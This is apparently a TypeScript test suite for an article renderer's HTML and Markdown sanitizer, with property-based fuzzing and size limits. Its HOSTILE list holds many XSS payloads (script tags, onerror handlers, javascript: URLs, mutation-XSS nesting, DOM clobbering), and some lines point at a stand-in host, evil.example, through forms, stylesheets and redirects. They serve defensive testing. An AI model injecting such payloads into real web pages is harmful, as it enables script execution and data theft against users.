import * as fc from 'fast-check';
import { parseFragment } from 'parse5';
import { renderArticle } from '../../../core/article/index.ts';

/** Everything of an article that a browser could see, from what the parser of browsers makes of its HTML. */
function elementsIn(html: string): { name: string; attributes: Record<string, string> }[] {
  const found: { name: string; attributes: Record<string, string> }[] = [];
  const walk = (node: unknown): void => {
    const { tagName, attrs = [], childNodes = [], content } = Object(node);
    if (typeof tagName === 'string')
      found.push({
        name: tagName,
        attributes: Object.fromEntries(
          attrs.map(({ name, value }: { name: string; value: string }) => [name, value]),
        ),
      });
    for (const child of childNodes) walk(child);
    if (content) walk(content);
  };
  walk(parseFragment(html));
  return found;
}

const HARMLESS_NAMES = new Set(
  (
    'a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure ' +
    'h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp section small span strong sub summary sup ' +
    'table tbody td tfoot th thead time tr u ul var wbr'
  ).split(' '),
);
const HARMLESS_ATTRIBUTES = new Set(
  (
    'align alt class colspan datetime decoding dir height href id lang loading open rel reversed rowspan scope span src ' +
    'start title type value width'
  ).split(' '),
);

/** What a browser might do with an article beside showing it; nothing where it is harmless. */
function harmsOf(html: string): string[] {
  return elementsIn(html).flatMap(({ name, attributes }) => {
    if (!HARMLESS_NAMES.has(name)) return [`<${name}>`];
    return Object.entries(attributes).flatMap(([attribute, value]) => {
      const isId = attribute === 'id' && !value.startsWith('h-');
      const isClass = attribute === 'class' && !/^language-[\w+#.-]{1,40}$/.test(value);
      const leadsTo = value.replace(/[\s\p{Cc}]/gu, '').toLowerCase();
      const scheme = /^([^/?#:]*):/.exec(leadsTo)?.[1];
      const allowed = attribute === 'src' ? ['https'] : ['http', 'https', 'mailto', 'tel'];
      const isBadAddress =
        (attribute === 'href' || attribute === 'src') && scheme !== undefined && !allowed.includes(scheme);
      const isHarm = !HARMLESS_ATTRIBUTES.has(attribute) || isId || isClass || isBadAddress;
      return isHarm ? [`${name}[${attribute}=${value}]`] : [];
    });
  });
}

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript\n:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="http://tracker.example/x.gif">',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "https://evil.example/x.css"; body { background: url(javascript:x) }</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=x></object><embed src=x><applet code=x></applet><portal src=x></portal>',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:x>x</button></form>',
  '<p id="location">x</p><a name="body">x</a><img name="getElementById"><form id="cookie"></form>',
  '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><details open ontoggle=alert(1)>',
  '<a href="https://ok.example" target="_blank" ping="https://evil.example" download>x</a>',
  '<p class="admin-toolbar button">x</p><p data-action="delete" hx-get="/v1/me" slot=x is=x part=x>x</p>',
  '<!--[if IE]><script>alert(1)</script><![endif]--><?php x ?><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<b><p><table><td><a href="javascript:x"><b></td></table><i></p></b>',
  '\0<scr\0ipt>alert(1)</script><img src="x\0" on\0error=alert(1)>',
  '<p title="x\ud800">\udfff</p>',
  '<marquee onstart=alert(1)><blink><isindex><keygen><menu><dialog open><slot><custom-element onx=1>',
];

describe('a hostile article', () => {
  test.each([...HOSTILE])('does no harm: %s', (source) => {
    expect(harmsOf(renderArticle('html', source).html)).toEqual([]);
    expect(harmsOf(renderArticle('markdown', `Text before\n\n${source}\n\n**after**`).html)).toEqual([]);
  });

  test('does no harm by what only Markdown has', () => {
    const source = [
      '[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>',
      '[x]: data:text/html;base64,PHNjcmlwdD4=\n\n[x] [y](vbscript:x)',
      '![x](https://ok.example/x.png"onerror="alert(1))',
      '```"><script>alert(1)</script>\nx\n```',
      '# <img src=x onerror=alert(1)> {#location}',
    ].join('\n\n');
    expect(harmsOf(renderArticle('markdown', source).html)).toEqual([]);
  });

  test('does no harm however its parts are put together', () => {
    const part = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        '<table>',
        '</table>',
        '<td>',
        '<p>',
        '</p>',
        '<b>',
        '</b>',
        '<svg>',
        '</svg>',
        '"',
        "'>",
        '`',
        '\n',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), fc.constantFrom('html', 'markdown'), (parts, format) => {
        const { html } = renderArticle(format as 'html', parts.join(''));
        expect(harmsOf(html)).toEqual([]);
        // What is safe stays what it is when it is imported again.
        expect(harmsOf(renderArticle('html', html).html)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  test('costs little however deep or long it is', () => {
    for (const source of ['<b>'.repeat(26_000), `${'<b></x>'.repeat(5_000)}${'<p>'.repeat(10_000)}`])
      expect(harmsOf(renderArticle('html', source).html)).toEqual([]);
    for (const source of ['>'.repeat(70_000), '['.repeat(70_000), '* '.repeat(39_000), '`'.repeat(70_000)])
      expect(harmsOf(renderArticle('markdown', source).html)).toEqual([]);
    expect(() => renderArticle('markdown', 'x'.repeat(80_001))).toThrow(
      expect.objectContaining({
        code: 'input.invalid',
        fields: [expect.objectContaining({ path: 'source' })],
      }),
    );
  });
});

describe('an article', () => {
  test('keeps what its author wrote', () => {
    const source = [
      '# Returns',
      'Send it **back** within [30 days](https://shop.example/terms) or ~~never~~, see [below](#steps).',
      '## Steps',
      '1. Pack\n2. Print',
      '- [x] done\n- [ ] open',
      '| part | days |\n|:--|--:|\n| ring | 30 |',
      '```js\nif (a < b) {}\n```',
      '![A box](/v1/kb/files/01/box.png)',
    ].join('\n\n');
    const { html, text } = renderArticle('markdown', source);
    expect(html).toMatchSnapshot();
    expect(text).toMatchSnapshot();
  });

  test('has headings that links lead to, each with an id of its own, below the title of the page', () => {
    const { html } = renderArticle(
      'html',
      '<h1>One</h1><h2>One</h2><h3 id="h-two">Two</h3><a href="#two">x</a>',
    );
    expect(html).toBe(
      '<h2 id="h-one">One</h2><h2 id="h-one-2">One</h2><h3 id="h-two">Two</h3><a href="#h-two">x</a>',
    );
  });

  test('that is given as it is shown is shown the same', () => {
    const { html } = renderArticle(
      'markdown',
      '## Steps\n\nSee [there](#steps), ![x](https://a.example/x.png).',
    );
    expect(renderArticle('html', html).html).toBe(html);
  });
});
